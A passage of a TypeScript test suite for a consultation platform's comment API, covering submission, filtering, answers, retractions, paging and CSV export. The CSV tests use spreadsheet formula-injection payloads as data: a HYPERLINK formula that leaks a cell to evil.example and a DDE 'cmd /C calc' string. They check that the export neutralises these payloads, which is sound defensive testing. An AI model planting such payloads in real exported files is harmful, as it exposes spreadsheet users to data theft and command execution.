// Comment routes through app.inject(): submit on a stakeholder's behalf, the comment-resolution
// matrix (filters, counts, CSV export with formula cells neutralised), answer and revise, retract,
// and every error status these routes document.
import t from 'tap';
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { neutraliseFormula, prefersCsv } from '../../src/http/csv.ts';
import { DRAFT_BODY, openConsultation, startApi, eventCount, inviteThroughApi, withoutLocalTimes } from '../helpers/http.ts';

type Api = Awaited<ReturnType<typeof startApi>>;

/** A clock the test moves: every event records the time it was handled, so views are exact. */
function testClock(start: string) {
  let now = new Date(start);
  return { clock: () => now, set: (iso: string) => { now = new Date(iso); } };
}

const T0 = '2027-01-10T09:00:00.000Z';
/** the actor the test API's coordinator token names (test/helpers/http.ts) */
const COORDINATOR_ACTOR = { role: 'coordinator', id: 'Gender Office coordinator' };

interface Invitee { organisation: string; kind: string; contacts: { name: string; email: string }[]; language: string; endorser?: boolean }

const WMN: Invitee = { organisation: 'Women Mediators Network', kind: 'civil-society', contacts: [{ name: 'Amina Yusuf', email: 'amina@wmn.example' }], language: 'en' };
const PRI: Invitee = { organisation: 'Peace Research Institute', kind: 'academia', contacts: [{ name: 'Lena Berg', email: 'berg@pri.example' }], language: 'en' };

const invite = (api: Api, id: string, body: Invitee) => inviteThroughApi(api, id, body);

/** An open consultation with draft 1 (sections s1, s2) and two stakeholders. */
async function setUp(t: Parameters<typeof startApi>[0], start = T0) {
  const time = testClock(start);
  const api = await startApi(t, { clock: time.clock });
  const id = await openConsultation(api);
  const wmn = await invite(api, id, WMN);
  const pri = await invite(api, id, PRI);
  return { api, id, wmn, pri, time };
}

async function submit(api: Api, id: string, body: Record<string, unknown>, headers?: Record<string, string>): Promise<string> {
  const res = await api.call({ url: `/consultations/${id}/comments`, body, ...(headers ? { headers } : {}) });
  if (res.statusCode !== 201) throw new Error(`comment failed: ${res.statusCode} ${res.body}`);
  return (res.json() as { commentId: string }).commentId;
}

function row(overrides: Record<string, unknown>) {
  return {
    sectionHeading: null, contactId: null, organisation: null, proposedText: null, status: 'awaiting-answer',
    disposition: null, response: null, answeredAt: null, answeredBy: null, earlierAnswers: [], retraction: null,
    attachments: [], heldReplyId: null, heldReason: null, ...overrides,
  };
}

t.test('neutraliseFormula prefixes cells a spreadsheet would run, and only those', async (t) => {
  const cases: Array<[string, string]> = [
    ['=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'],
    ['+1', '\'+1'],
    ['-2', '\'-2'],
    ['@SUM(A1:A9)', '\'@SUM(A1:A9)'],
    ['\t=1+1', '\'\t=1+1'],
    ['\rcmd', '\'\rcmd'],
    ['Women lead 30% of teams', 'Women lead 30% of teams'],
    ['a=b+c', 'a=b+c'],
    [' =1', ' =1'],
    ['\'quoted', '\'quoted'],
    ['', ''],
  ];
  for (const [cell, expected] of cases) t.equal(neutraliseFormula(cell), expected, JSON.stringify(cell));
});

t.test('prefersCsv: text/csv only when the client prefers it; JSON is the default', async (t) => {
  const cases: Array<[string | undefined, boolean]> = [
    [undefined, false], ['', false], ['*/*', false], ['application/json', false],
    ['text/csv', true], ['text/csv; charset=utf-8', true], ['TEXT/CSV', true], ['text/*', true],
    ['text/csv, application/json', false], ['application/json;q=0.5, text/csv', true],
    ['text/csv;q=0.5, application/json', false], ['text/csv;q=0', false], ['text/csv;q=0.9, */*;q=0.1', true],
  ];
  for (const [accept, expected] of cases) t.equal(prefersCsv(accept), expected, String(accept));
});

t.test('POST /comments records a comment on a stakeholder\'s behalf: 201 with commentId, ref, revision, Location; the matrix shows it', async (t) => {
  const { api, id, wmn, pri, time } = await setUp(t);
  const res = await api.call({
    url: `/consultations/${id}/comments`,
    body: { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'Name a target for women in mediation teams.', proposedText: 'At least 30% women by 2029.', channel: 'api' },
  });
  t.equal(res.statusCode, 201);
  const { commentId, revision } = res.json() as { commentId: string; revision: number };
  t.strictSame(res.json(), { commentId, ref: 'C-1', revision: 4 });
  t.equal(res.headers.location, `/consultations/${id}/comments/${commentId}`);
  t.equal(res.headers.etag, '"4"');
  time.set('2027-01-12T09:00:00.000Z');
  const said = await api.call({
    url: `/consultations/${id}/comments`,
    body: { stakeholderId: pri, draftVersion: 1, text: 'The plan needs a monitoring framework.', channel: 'meeting', madeAt: '2027-01-11T10:00:00+02:00' },
  });
  t.equal(said.statusCode, 201, 'sectionKey omitted: on the whole draft');
  const saidId = said.json().commentId as string;
  t.equal(said.json().ref, 'C-2');

  const matrix = await api.call({ url: `/consultations/${id}/comments`, as: 'auditor' });
  t.equal(matrix.statusCode, 200);
  t.equal(matrix.headers['content-type'], 'application/json; charset=utf-8');
  t.equal(matrix.headers.etag, 'W/"5"');
  t.strictSame(withoutLocalTimes(matrix.json()), {
    consultationId: id,
    comments: [
      row({
        commentId, ref: 'C-1', draftVersion: 1, sectionKey: 's1', sectionHeading: 'Participation', stakeholderId: wmn, organisation: WMN.organisation,
        text: 'Name a target for women in mediation teams.', proposedText: 'At least 30% women by 2029.', channel: 'api', madeAt: T0, submittedAt: T0,
      }),
      row({
        commentId: saidId, ref: 'C-2', draftVersion: 1, sectionKey: null, stakeholderId: pri, organisation: PRI.organisation,
        text: 'The plan needs a monitoring framework.', channel: 'meeting', madeAt: '2027-01-11T10:00:00+02:00', submittedAt: '2027-01-12T09:00:00.000Z',
      }),
    ],
    counts: { total: 2, answered: 0, awaitingAnswer: 2, retracted: 0 },
    next: null,
  });
  const one = await api.call({ url: `/consultations/${id}/comments/${saidId}` });
  t.equal(one.statusCode, 200, 'the Location of a comment is readable');
  const { timeZone, ...oneRow } = one.json();
  t.equal(timeZone, 'Europe/Bucharest', 'one comment names the zone of its local times too');
  t.strictSame(oneRow, matrix.json().comments[1]);
  t.equal(one.headers.etag, `W/"${saidId}-5"`, 'a comment\'s ETag names it and the consultation\'s revision');
  const missing = await api.call({ url: `/consultations/${id}/comments/${randomUUID()}` });
  t.equal(missing.statusCode, 404);
  t.equal(missing.json().code, 'COMMENT_NOT_FOUND');
  const elsewhere = await api.call({ url: `/consultations/${randomUUID()}/comments/${saidId}` });
  t.equal(elsewhere.statusCode, 404);
  t.equal(elsewhere.json().code, 'CONSULTATION_NOT_FOUND', 'a comment of another consultation is not found there');
  const noMatrix = await api.call({ url: `/consultations/${randomUUID()}/comments` });
  t.equal(noMatrix.statusCode, 404);
  t.equal(noMatrix.json().code, 'CONSULTATION_NOT_FOUND');
});

t.test('the matrix filters by version, section (empty or "whole" = the whole draft), stakeholder and status; counts leave out retracted comments', async (t) => {
  const { api, id, wmn, pri } = await setUp(t);
  const a = await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'On participation', channel: 'api' });
  const b = await submit(api, id, { stakeholderId: pri, draftVersion: 1, sectionKey: 's2', text: 'On protection', channel: 'api' });
  const c = await submit(api, id, { stakeholderId: wmn, draftVersion: 1, text: 'On the whole plan', channel: 'api' });
  await api.call({ url: `/consultations/${id}/drafts`, body: { ...DRAFT_BODY, note: 'second round' } });
  const d = await submit(api, id, { stakeholderId: pri, draftVersion: 2, sectionKey: 's1', text: 'Participation again', channel: 'api' });
  t.equal((await api.call({ url: `/consultations/${id}/comments/${b}/answer`, body: { disposition: 'noted', response: 'Thank you.' } })).statusCode, 200);
  t.equal((await api.call({ url: `/consultations/${id}/comments/${c}/retract`, body: { reason: 'Entered twice' } })).statusCode, 200);

  const ids = async (query: string) => {
    const res = await api.call({ url: `/consultations/${id}/comments${query}` });
    t.equal(res.statusCode, 200, query);
    const body = res.json() as { comments: { commentId: string }[]; counts: unknown };
    return { ids: body.comments.map((x) => x.commentId), counts: body.counts };
  };
  t.strictSame(await ids(''), { ids: [a, b, c, d], counts: { total: 3, answered: 1, awaitingAnswer: 2, retracted: 1 } });
  t.strictSame(await ids('?version=1'), { ids: [a, b, c], counts: { total: 2, answered: 1, awaitingAnswer: 1, retracted: 1 } });
  t.strictSame(await ids('?version=2'), { ids: [d], counts: { total: 1, answered: 0, awaitingAnswer: 1, retracted: 0 } });
  t.strictSame((await ids('?section=s1')).ids, [a, d]);
  t.strictSame((await ids('?section=s1&version=1')).ids, [a]);
  t.strictSame((await ids('?section=')).ids, [c], 'section= selects the whole-draft comments');
  t.strictSame((await ids('?section=whole')).ids, [c]);
  t.strictSame((await ids(`?stakeholder=${pri}`)).ids, [b, d]);
  t.strictSame(await ids('?status=retracted'), { ids: [c], counts: { total: 0, answered: 0, awaitingAnswer: 0, retracted: 1 } });
  t.strictSame((await ids('?status=answered')).ids, [b]);
  t.strictSame((await ids('?status=awaiting-answer')).ids, [a, d]);
  t.strictSame(await ids('?stakeholder=someone-else'), { ids: [], counts: { total: 0, answered: 0, awaitingAnswer: 0, retracted: 0 } });

  const bad = await api.call({ url: `/consultations/${id}/comments?status=done&version=0&section=no%20spaces` });
  t.equal(bad.statusCode, 400);
  t.equal(bad.json().code, 'INVALID_INPUT');
  t.strictSame(bad.json().errors.map((e: { path: string }) => e.path).sort(), ['querystring.section', 'querystring.status', 'querystring.version']);
});

t.test('answering again revises the answer: the matrix shows the latest with the earlier ones; the same answer again appends nothing', async (t) => {
  const { api, id, wmn, time } = await setUp(t);
  const cid = await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's2', text: 'Add a survivor-centred approach.', channel: 'api' });
  time.set('2027-01-12T08:00:00.000Z');
  const first = await api.call({ url: `/consultations/${id}/comments/${cid}/answer`, body: { disposition: 'partially-accepted', response: 'Added to section 2; the annex follows.' } });
  t.equal(first.statusCode, 200);
  t.strictSame(first.json(), { revision: 5 });
  time.set('2027-01-14T08:00:00.000Z');
  const revised = await api.call({ url: `/consultations/${id}/comments/${cid}/answer`, body: { disposition: 'accepted', response: 'Section 2 and the annex now say it.' } });
  t.strictSame(revised.json(), { revision: 6 });
  const same = await api.call({ url: `/consultations/${id}/comments/${cid}/answer`, body: { disposition: 'accepted', response: 'Section 2 and the annex now say it.' } });
  t.equal(same.statusCode, 200);
  t.strictSame(same.json(), { revision: 6 }, 'the same answer again is a no-op');
  t.equal(await eventCount(api, id), 7);

  const matrix = withoutLocalTimes((await api.call({ url: `/consultations/${id}/comments` })).json());
  t.strictSame(matrix.comments[0], row({
    commentId: cid, ref: 'C-1', draftVersion: 1, sectionKey: 's2', sectionHeading: 'Protection', stakeholderId: wmn, organisation: WMN.organisation,
    text: 'Add a survivor-centred approach.', channel: 'api', madeAt: T0, submittedAt: T0,
    status: 'answered', disposition: 'accepted', response: 'Section 2 and the annex now say it.', answeredAt: '2027-01-14T08:00:00.000Z',
    answeredBy: COORDINATOR_ACTOR,
    earlierAnswers: [{ disposition: 'partially-accepted', response: 'Added to section 2; the annex follows.', answeredAt: '2027-01-12T08:00:00.000Z', answeredBy: COORDINATOR_ACTOR }],
  }));
  t.strictSame(matrix.counts, { total: 1, answered: 1, awaitingAnswer: 0, retracted: 0 });
});

t.test('a retracted comment stays in the matrix as retracted, is not counted, and can be neither answered nor retracted again', async (t) => {
  const { api, id, wmn, pri, time } = await setUp(t);
  const kept = await submit(api, id, { stakeholderId: pri, draftVersion: 1, sectionKey: 's1', text: 'Keep this one', channel: 'api' });
  const wrong = await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'Said by someone else', channel: 'meeting', madeAt: T0 });
  await api.call({ url: `/consultations/${id}/comments/${wrong}/answer`, body: { disposition: 'noted', response: 'Noted.' } });
  time.set('2027-01-11T10:00:00.000Z');
  const res = await api.call({ url: `/consultations/${id}/comments/${wrong}/retract`, body: { reason: 'Recorded on the wrong stakeholder' } });
  t.equal(res.statusCode, 200);
  t.strictSame(res.json(), { revision: 7 });
  const matrix = (await api.call({ url: `/consultations/${id}/comments` })).json();
  t.strictSame(matrix.comments.map((c: { commentId: string; status: string }) => [c.commentId, c.status]), [[kept, 'awaiting-answer'], [wrong, 'retracted']]);
  t.strictSame(withoutLocalTimes(matrix.comments[1].retraction), { reason: 'Recorded on the wrong stakeholder', retractedAt: '2027-01-11T10:00:00.000Z' });
  t.equal(matrix.comments[1].disposition, 'noted', 'its answer stays on record');
  t.strictSame(matrix.counts, { total: 1, answered: 0, awaitingAnswer: 1, retracted: 1 });
  const answer = await api.call({ url: `/consultations/${id}/comments/${wrong}/answer`, body: { disposition: 'accepted', response: 'Too late' } });
  t.equal(answer.statusCode, 409);
  t.equal(answer.json().code, 'COMMENT_RETRACTED');
  t.strictSame(answer.json().details, { commentId: wrong, ref: 'C-2' }, 'the error names the comment by id and reference');
  const again = await api.call({ url: `/consultations/${id}/comments/${wrong}/retract`, body: { reason: 'Twice' } });
  t.equal(again.statusCode, 409);
  t.equal(again.json().code, 'COMMENT_RETRACTED');
  t.equal(await eventCount(api, id), 8, 'nothing appended by the refused requests');
});

t.test('Idempotency-Key: a retried submit returns the first commentId and appends nothing; another body with the key is 422', async (t) => {
  const { api, id, wmn } = await setUp(t);
  const body = { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'Retried over a flaky line', channel: 'api' };
  const headers = { 'idempotency-key': 'meeting-2027-01-10-item-4' };
  const first = await api.call({ url: `/consultations/${id}/comments`, body, headers });
  const before = await eventCount(api, id);
  const again = await api.call({ url: `/consultations/${id}/comments`, body, headers });
  t.equal(again.statusCode, 201);
  t.strictSame(again.json(), first.json());
  t.equal(again.headers.location, first.headers.location);
  t.equal(again.headers['idempotent-replayed'], 'true');
  t.equal(await eventCount(api, id), before, 'nothing appended');
  const other = await api.call({ url: `/consultations/${id}/comments`, body: { ...body, text: 'Something else' }, headers });
  t.equal(other.statusCode, 422);
  t.equal(other.json().code, 'COMMAND_ID_REUSED');

  const cid = first.json().commentId as string;
  const answerKey = { 'idempotency-key': 'answer-1' };
  const a1 = await api.call({ url: `/consultations/${id}/comments/${cid}/answer`, body: { disposition: 'rejected', response: 'Out of scope.' }, headers: answerKey });
  const a2 = await api.call({ url: `/consultations/${id}/comments/${cid}/answer`, body: { disposition: 'rejected', response: 'Out of scope.' }, headers: answerKey });
  t.strictSame(a2.json(), a1.json());
  t.equal(a2.headers['idempotent-replayed'], 'true');
  const a3 = await api.call({ url: `/consultations/${id}/comments/${cid}/answer`, body: { disposition: 'accepted', response: 'Out of scope.' }, headers: answerKey });
  t.equal(a3.statusCode, 422);
  t.equal(a3.json().code, 'COMMAND_ID_REUSED');
  const r = await api.call({ url: `/consultations/${id}/comments/${cid}/retract`, body: { reason: 'Duplicate' }, headers: { 'idempotency-key': 'retract-1' } });
  const r2 = await api.call({ url: `/consultations/${id}/comments/${cid}/retract`, body: { reason: 'Duplicate' }, headers: { 'idempotency-key': 'retract-1' } });
  t.equal(r2.statusCode, 200, 'a retried retract is the first result, not COMMENT_RETRACTED');
  t.strictSame(r2.json(), r.json());
  t.equal(await eventCount(api, id), before + 2, 'one answer, one retraction');
});

t.test('bad input is 400 naming the field; no token 401; auditors 403; nothing appended', async (t) => {
  const { api, id, wmn } = await setUp(t);
  const cid = await submit(api, id, { stakeholderId: wmn, draftVersion: 1, text: 'A comment', channel: 'api' });
  const before = await eventCount(api, id);
  const paths = async (url: string, body: unknown) => {
    const res = await api.call({ url, body });
    t.equal(res.statusCode, 400, url);
    t.equal(res.json().code, 'INVALID_INPUT');
    return (res.json().errors as { path: string }[]).map((e) => e.path).sort();
  };
  t.strictSame(await paths(`/consultations/${id}/comments`, { stakeholderId: wmn, draftVersion: 1, text: '   ', channel: 'api' }), ['body.text']);
  t.strictSame(await paths(`/consultations/${id}/comments`, { draftVersion: 'one', text: 'x', channel: 'fax', madeAt: 'yesterday' }),
    ['body.channel', 'body.draftVersion', 'body.madeAt', 'body.stakeholderId']);
  t.strictSame(await paths(`/consultations/${id}/comments`, { stakeholderId: wmn, draftVersion: 1, text: 'x'.repeat(10_001) }), ['body.text']);
  t.strictSame(await paths(`/consultations/${id}/comments/${cid}/answer`, { disposition: 'maybe', response: '' }), ['body.disposition', 'body.response']);
  t.strictSame(await paths(`/consultations/${id}/comments/${cid}/retract`, {}), ['body.reason']);
  const badId = await api.call({ url: '/consultations/not-a-uuid/comments' });
  t.equal(badId.statusCode, 400);
  t.strictSame(badId.json().errors.map((e: { path: string }) => e.path), ['params.id']);

  for (const [url, body] of [
    [`/consultations/${id}/comments`, { stakeholderId: wmn, draftVersion: 1, text: 'x' }],
    [`/consultations/${id}/comments/${cid}/answer`, { disposition: 'noted', response: 'x' }],
    [`/consultations/${id}/comments/${cid}/retract`, { reason: 'x' }],
  ] as const) {
    const anonymous = await api.call({ url, body, as: null });
    t.equal(anonymous.statusCode, 401, url);
    t.equal(anonymous.json().code, 'UNAUTHENTICATED');
    const auditor = await api.call({ url, body, as: 'auditor' });
    t.equal(auditor.statusCode, 403, url);
    t.equal(auditor.json().code, 'FORBIDDEN');
  }
  t.equal((await api.call({ url: `/consultations/${id}/comments`, as: null })).statusCode, 401, 'reading needs a token too');
  t.equal((await api.call({ url: `/consultations/${id}/comments`, as: 'auditor', headers: { accept: 'text/csv' } })).statusCode, 200, 'auditors may export');
  t.equal(await eventCount(api, id), before, 'nothing appended');
});

t.test('404 for an unknown consultation, comment or stakeholder', async (t) => {
  const { api, id } = await setUp(t);
  const unknown = randomUUID();
  for (const res of [
    await api.call({ url: `/consultations/${unknown}/comments` }),
    await api.call({ url: `/consultations/${unknown}/comments`, headers: { accept: 'text/csv' } }),
    await api.call({ url: `/consultations/${unknown}/comments`, body: { stakeholderId: randomUUID(), draftVersion: 1, text: 'x' } }),
    await api.call({ url: `/consultations/${unknown}/comments/${randomUUID()}/answer`, body: { disposition: 'noted', response: 'x' } }),
  ]) {
    t.equal(res.statusCode, 404);
    t.equal(res.headers['content-type'], 'application/problem+json; charset=utf-8');
    t.equal(res.json().code, 'CONSULTATION_NOT_FOUND');
  }
  const answer = await api.call({ url: `/consultations/${id}/comments/${randomUUID()}/answer`, body: { disposition: 'noted', response: 'x' } });
  t.equal(answer.statusCode, 404);
  t.equal(answer.json().code, 'COMMENT_NOT_FOUND');
  const retract = await api.call({ url: `/consultations/${id}/comments/${randomUUID()}/retract`, body: { reason: 'x' } });
  t.equal(retract.statusCode, 404);
  t.equal(retract.json().code, 'COMMENT_NOT_FOUND');
  const stakeholder = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: randomUUID(), draftVersion: 1, text: 'x' } });
  t.equal(stakeholder.statusCode, 404);
  t.equal(stakeholder.json().code, 'STAKEHOLDER_NOT_FOUND');
});

t.test('domain rules: 409 after the deadline or on an old draft, 422 for an unknown section or a recorded comment without its time, 412 stale If-Match', async (t) => {
  const { api, id, wmn, time } = await setUp(t);
  const before = await eventCount(api, id);
  const section = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, sectionKey: 's9', text: 'x' } });
  t.equal(section.statusCode, 422);
  t.equal(section.json().code, 'SECTION_NOT_FOUND');
  const noTime = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, text: 'x', channel: 'meeting' } });
  t.equal(noTime.statusCode, 422);
  t.equal(noTime.json().code, 'MADE_AT_REQUIRED');
  const stale = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, text: 'x' }, headers: { 'if-match': '"1"' } });
  t.equal(stale.statusCode, 412);
  t.equal(stale.json().code, 'REVISION_MISMATCH');
  const draftVersion = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 7, text: 'x' } });
  t.equal(draftVersion.statusCode, 404);
  t.equal(draftVersion.json().code, 'DRAFT_NOT_FOUND');
  t.equal(await eventCount(api, id), before, 'nothing appended');
  const current = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, text: 'x' }, headers: { 'if-match': `"${before - 1}"` } });
  t.equal(current.statusCode, 201, 'the current revision passes');
  const cid = current.json().commentId as string;
  const staleAnswer = await api.call({ url: `/consultations/${id}/comments/${cid}/answer`, body: { disposition: 'noted', response: 'x' }, headers: { 'if-match': `"${before - 1}"` } });
  t.equal(staleAnswer.statusCode, 412);

  time.set('2099-07-01T00:00:00.000Z'); // the comment deadline was 2099-06-30T17:00:00+03:00
  const late = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, text: 'Too late', channel: 'api' } });
  t.equal(late.statusCode, 409);
  t.equal(late.json().code, 'COMMENT_DEADLINE_PASSED');
  t.strictSame(late.json().details, { deadline: '2099-06-30T17:00:00+03:00' });
  const lateMeeting = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, text: 'Said on the day', channel: 'meeting', madeAt: '2099-06-30T13:00:00Z' } });
  t.equal(lateMeeting.statusCode, 201, 'a comment made before the deadline in a meeting is recorded after it');

  time.set('2027-02-01T00:00:00.000Z');
  await api.call({ url: `/consultations/${id}/drafts`, body: DRAFT_BODY });
  const old = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, text: 'On the old draft' } });
  t.equal(old.statusCode, 409);
  t.equal(old.json().code, 'DRAFT_NOT_LATEST');
});

t.test('Accept: text/csv exports the filtered matrix as CSV; formula cells are neutralised, quotes, commas and newlines escaped', async (t) => {
  const { api, id, wmn, time } = await setUp(t);
  const evil = await invite(api, id, { organisation: '=cmd|\' /C calc\'!A0', kind: 'other', contacts: [{ name: 'X', email: 'x@evil.example' }], language: 'en' });
  const texts = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the annex")',
    '+1 more seat for women at the table',
    '-2 percent is not a target',
    '@SUM(A1:A9)',
    '\t=1+1', // the schema trims the tab; the = that is left is neutralised
    'Say "women, peace and security",\nnot "gender",\r\nthroughout',
  ];
  const ids: string[] = [];
  for (const text of texts) ids.push(await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text, channel: 'api' }));
  time.set('2027-01-11T09:00:00.000Z');
  const whole = await submit(api, id, { stakeholderId: evil, draftVersion: 1, text: 'Whole draft, plain', proposedText: '=2+2', channel: 'letter', madeAt: '2027-01-10T12:00:00Z' });
  await api.call({ url: `/consultations/${id}/comments/${ids[0]}/answer`, body: { disposition: 'rejected', response: 'Links are not accepted.' } });
  await api.call({ url: `/consultations/${id}/comments/${ids[0]}/answer`, body: { disposition: 'rejected', response: '-Links are not accepted, twice.' } });
  await api.call({ url: `/consultations/${id}/comments/${ids[3]}/retract`, body: { reason: '+spam' } });

  const res = await api.call({ url: `/consultations/${id}/comments`, headers: { accept: 'text/csv' } });
  t.equal(res.statusCode, 200);
  t.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
  t.equal(res.headers['content-disposition'], `attachment; filename="comments-${id}.csv"`);
  t.equal(res.headers.vary, 'Accept');
  t.equal(res.headers.etag, 'W/"14-csv"');
  t.ok(res.body.startsWith('\uFEFF"Reference",'), 'a UTF-8 BOM, then every cell quoted');
  t.ok(res.body.endsWith('\r\n'), 'CRLF record ends');
  const records = parse(res.body, { bom: true }) as string[][];
  // after each "… at" column, the same time in the consultation's zone (Europe/Bucharest: +02:00 in January)
  const tz = 'Europe/Bucharest';
  t.strictSame(records[0], [
    'Reference', 'Comment ID', 'Draft version', 'Section key', 'Section', 'Stakeholder ID', 'Organisation', 'Channel', 'Made at', `Made at (${tz})`,
    'Submitted at', `Submitted at (${tz})`, 'Comment', 'Proposed text', 'Status', 'Disposition', 'Response', 'Answered at', `Answered at (${tz})`,
    'Answered by', 'Earlier answers', 'Retraction reason', 'Retracted at', `Retracted at (${tz})`, 'Attachments',
  ]);
  const T0_LOCAL = '2027-01-10T11:00:00.000+02:00';
  const s1 = (n: number, text: string, rest: string[] = ['', 'awaiting-answer', '', '', '', '', '', '', '', '', '']) =>
    [`C-${n + 1}`, ids[n]!, '1', 's1', 'Participation', wmn, WMN.organisation, 'api', T0, T0_LOCAL, T0, T0_LOCAL, text, ...rest, ''];
  t.strictSame(records.slice(1), [
    s1(0, '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the annex")', [
      '', 'answered', 'rejected', '\'-Links are not accepted, twice.', '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00',
      'Gender Office coordinator (coordinator)',
      '1. 2027-01-11T09:00:00.000Z (2027-01-11T11:00:00.000+02:00) by Gender Office coordinator (coordinator), rejected:\nLinks are not accepted.', '', '', '',
    ]),
    s1(1, '\'+1 more seat for women at the table'),
    s1(2, '\'-2 percent is not a target'),
    s1(3, '\'@SUM(A1:A9)', ['', 'retracted', '', '', '', '', '', '', '\'+spam', '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00']),
    s1(4, '\'=1+1'),
    s1(5, 'Say "women, peace and security",\nnot "gender",\nthroughout'), // CRLF arrives as LF
    ['C-7', whole, '1', '', 'Whole draft', evil, '\'=cmd|\' /C calc\'!A0', 'letter', '2027-01-10T12:00:00Z', '2027-01-10T14:00:00+02:00',
      '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00', 'Whole draft, plain', '\'=2+2', 'awaiting-answer', '', '', '', '', '', '', '', '', '', ''],
  ]);
  t.match(res.body, /"Say ""women, peace and security"",\nnot ""gender"",\nthroughout"/, 'quotes doubled, the cell quoted');

  const filtered = await api.call({ url: `/consultations/${id}/comments?section=whole`, headers: { accept: 'text/csv;q=0.9, application/json;q=0.5' } });
  const filteredRows = parse(filtered.body, { bom: true }) as string[][];
  t.strictSame(filteredRows.map((r) => r[1]), ['Comment ID', whole], 'the filters apply to the CSV');
  const empty = parse((await api.call({ url: `/consultations/${id}/comments?stakeholder=nobody`, headers: { accept: 'text/csv' } })).body, { bom: true }) as string[][];
  t.equal(empty.length, 1, 'the header row alone');

  const jsonByDefault = await api.call({ url: `/consultations/${id}/comments`, headers: { accept: '*/*' } });
  t.equal(jsonByDefault.headers['content-type'], 'application/json; charset=utf-8');
  t.equal(jsonByDefault.json().comments[0].text, texts[0], 'the JSON keeps the text as it was written');
  t.equal(jsonByDefault.headers.etag, 'W/"14"', 'the JSON and the CSV have different ETags');
  const cached = await api.call({ url: `/consultations/${id}/comments`, headers: { accept: 'text/csv', 'if-none-match': 'W/"14-csv"' } });
  t.equal(cached.statusCode, 304);
  const notCached = await api.call({ url: `/consultations/${id}/comments`, headers: { accept: 'application/json', 'if-none-match': 'W/"14-csv"' } });
  t.equal(notCached.statusCode, 200);
});

t.test('the generated OpenAPI documents the comment routes with their bodies and the CSV representation', async (t) => {
  const api = await startApi(t);
  const doc = (await api.call({ url: '/docs/json', as: null })).json();
  const paths = doc.paths as Record<string, Record<string, { requestBody?: { content: Record<string, { schema: { properties: Record<string, unknown>; required?: string[] } }> }; responses: Record<string, { content?: Record<string, unknown> }> }>>;
  const submitBody = paths['/consultations/{id}/comments']!['post']!.requestBody!.content['application/json']!.schema;
  t.strictSame(Object.keys(submitBody.properties).sort(), ['channel', 'contactId', 'draftVersion', 'madeAt', 'proposedText', 'sectionKey', 'stakeholderId', 'text']);
  t.strictSame(submitBody.required?.sort(), ['draftVersion', 'stakeholderId', 'text']);
  t.strictSame(Object.keys(paths['/consultations/{id}/comments']!['get']!.responses['200']!.content!).sort(), ['application/json', 'text/csv']);
  const answerBody = paths['/consultations/{id}/comments/{cid}/answer']!['post']!.requestBody!.content['application/json']!.schema;
  t.strictSame(Object.keys(answerBody.properties).sort(), ['disposition', 'response'], 'the path parameter is not in the body');
  const retractBody = paths['/consultations/{id}/comments/{cid}/retract']!['post']!.requestBody!.content['application/json']!.schema;
  t.strictSame(Object.keys(retractBody.properties), ['reason']);
});

t.test('the matrix pages: ?limit= and ?cursor= with the filters, answered with next; the counts are the filtered matrix\'s on every page; CSV is whole', async (t) => {
  const { api, id, wmn, pri } = await setUp(t);
  const mine: string[] = [];
  for (let i = 0; i < 7; i++) {
    mine.push(await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: `WMN comment ${i + 1}`, channel: 'api' }));
    await submit(api, id, { stakeholderId: pri, draftVersion: 1, sectionKey: 's2', text: `PRI comment ${i + 1}`, channel: 'api' });
  }
  await api.call({ url: `/consultations/${id}/comments/${mine[6]}/answer`, body: { disposition: 'noted', response: 'Thank you.' } });

  const pages: string[][] = [];
  const refs: string[] = [];
  let url = `/consultations/${id}/comments?stakeholder=${wmn}&limit=3`;
  for (;;) {
    const res = await api.call({ url });
    t.equal(res.statusCode, 200, url);
    const body = res.json() as { comments: { commentId: string; ref: string }[]; counts: unknown; next: string | null };
    t.strictSame(body.counts, { total: 7, answered: 1, awaitingAnswer: 6, retracted: 0 }, 'the filtered matrix\'s counts, on every page');
    pages.push(body.comments.map((c) => c.commentId));
    refs.push(...body.comments.map((c) => c.ref));
    if (body.next === null) break;
    t.match(body.next, /^[A-Za-z0-9_-]+$/, 'an opaque, URL-safe cursor');
    url = `/consultations/${id}/comments?stakeholder=${wmn}&limit=3&cursor=${body.next}`;
  }
  t.strictSame(pages, [mine.slice(0, 3), mine.slice(3, 6), mine.slice(6)], 'three pages of WMN\'s comments only');
  t.strictSame(refs, ['C-1', 'C-3', 'C-5', 'C-7', 'C-9', 'C-11', 'C-13'], 'references count every comment, whoever made it');

  const unfiltered = (await api.call({ url: `/consultations/${id}/comments?limit=10` })).json();
  t.equal(unfiltered.comments.length, 10);
  t.strictSame(unfiltered.counts, { total: 14, answered: 1, awaitingAnswer: 13, retracted: 0 });
  const rest = (await api.call({ url: `/consultations/${id}/comments?limit=10&cursor=${unfiltered.next}` })).json();
  t.strictSame([rest.comments.length, rest.next], [4, null]);
  const byDefault = (await api.call({ url: `/consultations/${id}/comments` })).json();
  t.strictSame([byDefault.comments.length, byDefault.next], [14, null], 'default limit 500: one page here');
